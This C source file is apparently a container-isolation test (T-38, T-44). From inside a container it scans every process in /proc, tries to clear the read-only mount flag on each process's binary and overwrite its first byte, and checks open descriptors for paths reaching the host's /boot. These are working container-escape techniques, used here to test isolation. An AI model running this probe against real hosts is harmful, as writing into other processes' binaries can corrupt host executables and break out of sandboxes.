// SPDX-License-Identifier: Apache-2.0
// Preys on every process that appears beside it (T-38, T-44): tries to make its binary writable,
// and says which folders it could reach through its descriptors, root and working directory.
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

struct attributes {
    uint64_t set, clear, propagation, userns;
};

// The container's own program after its execve is no prey.
static int is_own(int fd) {
    struct stat own = {0}, other = {0};
    return stat("/bin/busybox", &own) == 0 && fstat(fd, &other) == 0 &&
           own.st_dev == other.st_dev && own.st_ino == other.st_ino;
}

static void prey_on_binary(const char* process) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", process);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0 || is_own(fd)) {
        close(fd);
        return;
    }
    puts("GLIMPSE");
    struct attributes attributes = {0, 1, 0, 0};  // MOUNT_ATTR_RDONLY
    if (syscall(442, fd, "", 0x1000, &attributes, sizeof attributes) == 0) {
        printf("UNWRAPPED %s\n", path);
    }
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    // Busy while it runs; a moment later it may not be.
    for (int tried = 0; tried < 20; ++tried) {
        int writable = open(again, O_WRONLY | O_CLOEXEC);
        if (writable >= 0) {
            // A sealed memory file opens for writing and refuses to be written.
            if (pwrite(writable, "\177", 1, 0) == 1) {
                printf("WRITABLE %s\n", path);
            }
            close(writable);
            break;
        }
    }
    close(fd);
}

static void look_at(const char* path) {
    char below[400], target[300] = "";
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = '\0';
    struct stat info = {0};
    if (stat(path, &info) == 0 && S_ISDIR(info.st_mode)) {
        printf("FOLDER %s\n", target);
        snprintf(below, sizeof below, "%s/../../../../../../boot", path);
        if (stat(below, &info) == 0) {
            printf("HOST %s\n", target);
        }
        snprintf(below, sizeof below, "%s/boot", path);
        if (stat(below, &info) == 0) {
            printf("HOST %s\n", target);
        }
    }
}

static void prey_on_descriptors(const char* process) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/fd", process);
    DIR* folder = opendir(path);
    for (struct dirent* entry = NULL; folder != NULL && (entry = readdir(folder)) != NULL;) {
        if (*entry->d_name != '.') {
            snprintf(path, sizeof path, "/proc/%s/fd/%s", process, entry->d_name);
            look_at(path);
        }
    }
    if (folder != NULL) {
        closedir(folder);
    }
}

int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (;;) {
        DIR* processes = opendir("/proc");
        for (struct dirent* entry = NULL; (entry = readdir(processes)) != NULL;) {
            if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid()) {
                prey_on_descriptors(entry->d_name);
                prey_on_binary(entry->d_name);
            }
        }
        closedir(processes);
    }
}
